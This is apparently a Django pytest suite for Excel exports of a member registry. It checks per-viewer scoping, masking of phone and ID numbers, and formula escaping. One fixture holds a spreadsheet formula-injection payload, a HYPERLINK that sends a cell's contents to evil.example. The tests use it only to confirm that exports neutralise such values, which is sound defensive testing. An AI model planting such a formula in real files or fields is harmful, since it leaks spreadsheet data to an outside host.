"""Excel exports: scoped to the viewer, masked for the viewer, safe to open, and well-formed (issue 7 item 3)."""

import io
import zipfile
from datetime import UTC, date, datetime, timedelta
from decimal import Decimal

import pytest
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from members.models import Member, Notification, User
from reports import exports
from reports.xlsx import Column, Sheet, escape_formula, simple_sheet, write_workbook
from tests.factories import MemberFactory
from tests.members.test_import_members import id_number
from tests.xlsx import read_xlsx

TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def download(client, url) -> bytes:
    response = client.get(url)
    assert response.status_code == 200, response.content[:500]
    assert response["Content-Type"] == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    assert response["Content-Disposition"].startswith("attachment")
    return b"".join(response.streaming_content)


def rows_of(data: bytes) -> list[dict]:
    sheet = read_xlsx(data)
    values = list(sheet.iter_rows(values_only=True))
    return [dict(zip(values[0], row, strict=True)) for row in values[1:]]


@pytest.fixture
def hostile(cast):
    """A member of sec_a's organisation whose name and phone a spreadsheet would run as formulas."""
    return MemberFactory(
        secondary=cast["org_a"],
        branch=cast["branch_a0"],
        name='=HYPERLINK("http://evil.example/?x="&A1,"点我")',
        phone="+8613800001111",
        number="0100777",
        id_number=id_number(9, x=True),
        email="@evil.example",
        origin_organization="",
        mobility_reason="degree_study",
        joined_on=date(2015, 7, 1),
    )


def test_a_secretarys_roster_holds_only_their_organisation(cast, as_user, hostile):
    rows = rows_of(download(as_user("sec_a"), reverse("exports:export", args=["members"])))

    assert rows and {r["二级党组织"] for r in rows} == {cast["org_a"].name}
    numbers = {r["工号/学号"] for r in rows}
    assert cast["members"]["a1_member"].number in numbers
    assert cast["members"]["b_member"].number not in numbers
    assert len(rows) == Member.objects.filter(secondary=cast["org_a"]).count()


def test_a_branch_secretarys_roster_holds_only_their_branch(cast, as_user):
    rows = rows_of(download(as_user("branch_a1"), reverse("exports:export", args=["members"])))

    assert {r["所在党支部"] for r in rows} == {cast["branch_a1"].name}


def test_the_organisation_department_exports_every_organisation(cast, as_user):
    rows = rows_of(download(as_user("orgdept"), reverse("exports:export", args=["members"])))

    assert {cast["org_a"].name, cast["org_b"].name} <= {r["二级党组织"] for r in rows}
    assert len(rows) == Member.objects.count()


def test_the_export_keeps_the_lists_filters(cast, as_user, hostile):
    rows = rows_of(download(as_user("orgdept"), reverse("exports:export", args=["members"]) + "?mobile=true"))

    assert rows and all(r["流动原因"] for r in rows)
    assert len(rows) == Member.objects.mobile().count()


def test_no_cell_can_run_as_a_formula(cast, as_user, hostile):
    data = download(as_user("orgdept"), reverse("exports:export", args=["members"]))
    sheet = read_xlsx(data)
    header = [c.value for c in next(sheet.iter_rows(max_row=1))]
    row = next(r for r in sheet.iter_rows(min_row=2) if r[header.index("工号/学号")].value == "0100777")
    name, phone, email = (row[header.index(h)] for h in ("姓名", "联系电话", "电子邮箱"))

    assert name.value == "'" + hostile.name and name.data_type == "s"
    assert phone.value == "'+8613800001111" and phone.data_type == "s"
    assert email.value == "'@evil.example"
    for cells in sheet.iter_rows():
        for cell in cells:
            assert cell.data_type != "f"
            assert not (isinstance(cell.value, str) and cell.value.startswith(TRIGGERS))
    # And in the file itself: not a single formula element.
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        assert all(
            b"<f>" not in archive.read(n) and b"<f " not in archive.read(n) for n in archive.namelist()
        )


@pytest.mark.parametrize(
    ("text", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+86 138", "'+86 138"),
        ("-2", "'-2"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("张三", "张三"),
        ("a=b", "a=b"),
        ("", ""),
    ],
)
def test_escape_formula(text, written):
    assert escape_formula(text) == written


def test_phones_and_id_numbers_are_masked_unless_the_viewer_may_see_them(cast, as_user, hostile):
    def exported(username):
        rows = rows_of(download(as_user(username), reverse("exports:export", args=["members"])))
        return next(r for r in rows if r["工号/学号"] == "0100777")

    full = exported("orgdept")
    assert full["身份证号码"] == hostile.id_number and full["联系电话"] == "'+8613800001111"
    masked = exported("sec_a")
    assert masked["身份证号码"] == hostile.id_number[:6] + "********" + hostile.id_number[-4:]
    assert "*" in masked["联系电话"] and "13800001111" not in masked["联系电话"]


def test_the_sheet_has_a_frozen_bold_header_widths_date_cells_and_text_identifiers(cast, as_user, hostile):
    sheet = read_xlsx(download(as_user("sec_a"), reverse("exports:export", args=["members"])))

    assert sheet.freeze_panes == "A2"
    header = next(sheet.iter_rows(max_row=1))
    assert all(cell.font.b for cell in header)
    headers = [c.value for c in header]
    assert headers[:3] == ["姓名", "性别", "工号/学号"]
    assert sheet.column_dimensions["D"].width >= 20  # 身份证号码
    row = next(r for r in sheet.iter_rows(min_row=2) if r[headers.index("工号/学号")].value == "0100777")
    joined = row[headers.index("入党时间")]
    assert joined.is_date and joined.value.date() == date(2015, 7, 1) and joined.number_format == "yyyy-mm-dd"
    for column in ("工号/学号", "身份证号码", "联系电话"):
        cell = row[headers.index(column)]
        assert cell.data_type == "s" and cell.number_format == "@"
    assert row[headers.index("工号/学号")].value == "0100777"  # the leading zero stays


def test_the_outflow_register_is_scoped_filtered_and_has_real_dates(cast, as_user, make_outflow, today):
    registered = make_outflow()
    make_outflow(state="draft", member=cast["members"]["a0_member"])
    url = reverse("exports:export", args=["outflows"])

    rows = rows_of(download(as_user("sec_a"), url))
    assert len(rows) == 2
    assert rows_of(download(as_user("sec_b"), url)) == []
    only_registered = rows_of(download(as_user("sec_a"), url + "?state=registered"))
    assert [r["工号/学号"] for r in only_registered] == [registered.member.number]
    row = only_registered[0]
    assert row["流出登记日期"] == datetime.combine(registered.registered_on, datetime.min.time())
    assert row["接收纳管期限"] == datetime.combine(registered.due_on, datetime.min.time())
    assert row["外出地点所在县（市、区）"] == registered.destination_county.full_name
    assert row["流出期间联系电话"] == "139****1111"  # masked for the secretary


def test_the_outflow_register_lists_newest_first_in_the_same_number_of_queries(cast, as_user, make_outflow):
    from django.db import connection
    from django.test.utils import CaptureQueriesContext

    client, url = as_user("orgdept"), reverse("exports:export", args=["outflows"])

    def export():
        with CaptureQueriesContext(connection) as ctx:
            rows = rows_of(download(client, url))
        return rows, len(ctx)

    older = make_outflow(days_ago=20)
    _rows, small = export()
    newer = make_outflow(days_ago=5, member=cast["members"]["a0_member"])
    make_outflow(days_ago=8, member=cast["members"]["member_a"])
    rows, large = export()
    assert large == small
    numbers = [r["工号/学号"] for r in rows]
    assert numbers[0] == newer.member.number and numbers[-1] == older.member.number and len(numbers) == 3
    assert {r["二级党组织"] for r in rows} == {cast["org_a"].name}
    assert rows[0]["所在党支部"] == cast["branch_a0"].name


def test_the_inflow_register_is_scoped(cast, as_user, make_inflow):
    make_inflow()
    url = reverse("exports:export", args=["inflows"])

    assert len(rows_of(download(as_user("sec_a"), url))) == 1
    assert rows_of(download(as_user("sec_b"), url)) == []


def test_the_overdue_list_holds_the_viewers_overdue_intakes(cast, as_user, make_outflow):
    make_outflow(days_ago=45)  # within the province: 30 days, so 15 days overdue
    url = reverse("exports:export", args=["overdue"])

    rows = rows_of(download(as_user("sec_a"), url))
    assert [(r["类型"], r["超期天数"]) for r in rows] == [("流出", 15)]
    assert rows_of(download(as_user("sec_b"), url)) == []
    assert len(rows_of(download(as_user("orgdept"), url))) == 1


def test_the_campaign_report_lists_each_organisations_task_and_figures(cast, as_user, make_outflow):
    from registrations import jobs

    campaign = jobs.campaign_open(today=date(2026, 3, 1))
    url = reverse("exports:campaign", args=[campaign.pk])

    every = rows_of(download(as_user("orgdept"), url))
    assert {r["二级党组织"] for r in every} == set(campaign.tasks.values_list("secondary__name", flat=True))
    assert all(r["报送情况"] == "未报送" for r in every)
    own = rows_of(download(as_user("sec_a"), url))
    assert [r["二级党组织"] for r in own] == [cast["org_a"].name]


def test_a_large_export_is_prepared_in_the_background_for_its_requester_only(cast, as_user, settings):
    settings.FLOWPARTY_EXPORT_ASYNC_ROWS = 1
    client = as_user("sec_a")
    url = reverse("exports:export", args=["members"]) + "?category=teacher"

    page = client.get(url)
    assert page.status_code == 200 and b'name="query"' in page.content
    prepared = client.post(reverse("exports:prepare", args=["members"]), {"query": "category=teacher"})
    assert prepared.status_code == 302
    rows = rows_of(download(client, prepared["Location"]))  # Celery is eager in tests: ready at once
    assert (
        rows
        and {r["党员类别"] for r in rows} == {"教师"}
        and {r["二级党组织"] for r in rows} == {cast["org_a"].name}
    )
    notice = Notification.objects.get(recipient__username="sec_a", kind="export_ready")
    # The notification links to the same file (its signed token may carry a later second: compare what it names).
    sec_a = User.objects.get(username="sec_a")

    def named(url):
        return exports.read_download_token(url.rstrip("/").rsplit("/", 1)[1], user=sec_a)

    assert named(notice.link) == named(prepared["Location"])
    assert as_user("sec_b").get(prepared["Location"]).status_code == 404


def test_a_prepared_export_that_failed_says_so(cast, as_user):
    sec_a = User.objects.get(username="sec_a")
    storage = exports.private_storage()
    from django.core.files.base import ContentFile

    storage.save("exports/broken.xlsx.failed", ContentFile(b""))
    token = exports.download_token(user=sec_a, name="exports/broken.xlsx", filename="x.xlsx")

    response = as_user("sec_a").get(reverse("exports:download", args=[token]))

    assert response.status_code == 200 and b"refresh" not in response.content


def test_old_exports_and_uploads_are_purged(cast, settings):
    from django.core.files.base import ContentFile

    storage = exports.private_storage()
    storage.save("exports/old.xlsx", ContentFile(b"x"))
    storage.save("imports/old.xlsx", ContentFile(b"x"))

    assert exports.exchange_files_purge(now=timezone.now()) == 0
    later = timezone.now() + timedelta(hours=settings.FLOWPARTY_EXCHANGE_FILE_HOURS + 1)
    assert exports.exchange_files_purge(now=later) == 2
    assert not storage.exists("exports/old.xlsx") and not storage.exists("imports/old.xlsx")


def test_simple_sheet_writes_what_statistical_tables_give_it():
    sheet = simple_sheet(
        "2025年统计",
        ["二级党组织", "流出党员", "统计日期", "说明"],
        [["文新学院", 12, date(2025, 3, 1), "=SUM(B2:B9)"], ["数理学院", 0, date(2025, 3, 1), None]],
    )
    buffer = io.BytesIO()
    assert write_workbook([sheet], buffer) == 2
    ws = read_xlsx(buffer.getvalue())
    assert ws.freeze_panes == "A2"
    assert ws["B2"].value == 12 and ws["B2"].data_type == "n"
    assert ws["C2"].is_date
    assert ws["D2"].value == "'=SUM(B2:B9)"


def test_a_sheet_streams_rows_from_a_generator():
    def rows():
        for i in range(5000):
            yield [f"{i:06d}", date(2025, 1, 1) + timedelta(days=i % 300), i]

    buffer = io.BytesIO()
    count = write_workbook(
        [
            Sheet(
                "大表",
                [Column("编号", kind="code"), Column("日期", kind="date"), Column("数", kind="number")],
                rows(),
            )
        ],
        buffer,
    )
    assert count == 5000
    ws = read_xlsx(buffer.getvalue())
    assert ws["A5001"].value == "004999" and ws["B5001"].is_date and ws["C5001"].value == 4999


def test_every_kind_of_value_becomes_the_cell_it_should_be():
    aware = datetime(2025, 3, 1, 23, 30, tzinfo=UTC)
    sheet = Sheet(
        "各种值",
        [
            Column("文本"),
            Column("编号", kind="code"),
            Column("数", kind="number"),
            Column("日期", kind="date"),
            Column("时间", kind="datetime"),
        ],
        [
            ["响铃\x07字符", 12345, Decimal("2.50"), aware, aware],
            [True, "0012", float("nan"), "", None],
            ["-1", None, 7, date(2025, 1, 2), datetime(2025, 1, 2, 8, 0)],  # noqa: DTZ001 (a naive one too)
        ],
    )
    buffer = io.BytesIO()
    assert write_workbook([sheet], buffer) == 3
    ws = read_xlsx(buffer.getvalue())
    # A control character (which openpyxl refused to write, failing the whole export) is written in OOXML's
    # escape, which Excel shows as the character.
    assert ws["A2"].value == "响铃_x0007_字符"
    assert ws["B2"].value == "12345" and ws["B2"].data_type == "s"  # an identifier stays text
    assert ws["C2"].value == 2.5 and ws["C2"].data_type == "n"
    # An aware time is written in the site's time zone (Asia/Shanghai: 07:30 the next day); openpyxl reads naive.
    assert ws["D2"].value.date() == date(2025, 3, 2) and ws["D2"].number_format == "yyyy-mm-dd"
    assert (
        ws["E2"].value.isoformat() == "2025-03-02T07:30:00" and ws["E2"].number_format == "yyyy-mm-dd hh:mm"
    )
    assert ws["A3"].value == "是" and ws["B3"].value == "0012"
    assert ws["C3"].value is None  # not a number: an empty cell, not a broken file or a formula
    assert ws["D3"].value is None and ws["E3"].value is None
    assert ws["A4"].value == "'-1"  # text that starts like a formula
    assert ws["C4"].value == 7 and ws["D4"].value.date() == date(2025, 1, 2)


def test_sheet_names_are_made_valid_and_unique():
    sheets = [
        Sheet("党员/花名册:2025?", [Column("甲")], [["1"]], notes=["第一张表的说明"]),
        Sheet("党员/花名册:2025?", [Column("甲")], [["2"]]),
        Sheet("一个很长很长很长很长很长很长很长很长很长很长很长很长很长很长很长的名字", [Column("甲")], []),
        Sheet("", [Column("甲")], []),
    ]
    buffer = io.BytesIO()
    write_workbook(sheets, buffer)
    names = load_workbook(io.BytesIO(buffer.getvalue())).sheetnames
    assert names[:3] == ["党员_花名册_2025_", "说明", "党员_花名册_2025_ (2)"]
    assert len(names[3]) == 31 and names[4] == "Sheet"
    assert len({n.casefold() for n in names}) == len(names)


@pytest.mark.parametrize(
    ("list_url", "kind", "query"),
    [
        ("members:list", "members", "mobile=true"),
        ("registrations:outflow_list", "outflows", "state=registered"),
        ("registrations:inflow_list", "inflows", "state=notified"),
    ],
)
def test_each_lists_export_button_carries_the_lists_filters(cast, as_user, list_url, kind, query):
    page = as_user("sec_a").get(reverse(list_url) + "?" + query + "&page=1")

    assert f'href="{reverse("exports:export", args=[kind])}?{query}"' in page.content.decode()


def test_an_export_with_full_identifiers_imports_again_unchanged(cast, as_user, hostile):
    """The roster uses the import's columns and the import takes the formula apostrophe off: a file the
    department exports comes back as the same members, every row unchanged."""
    from members.resources import SKIP, MemberResource, run_import

    hostile.id_number, hostile.email = id_number(7), "x@evil.example"  # the fixture's e-mail is not valid
    hostile.save()
    data = download(as_user("orgdept"), reverse("exports:export", args=["members"]))
    orgdept = User.objects.get(username="orgdept")
    result = run_import(MemberResource, user=orgdept, name="x.xlsx", data=data, dry_run=True)
    assert result.ok, result.all_errors()[:3]
    assert result.counts[SKIP] == Member.objects.count() and len(result.planned) == Member.objects.count()
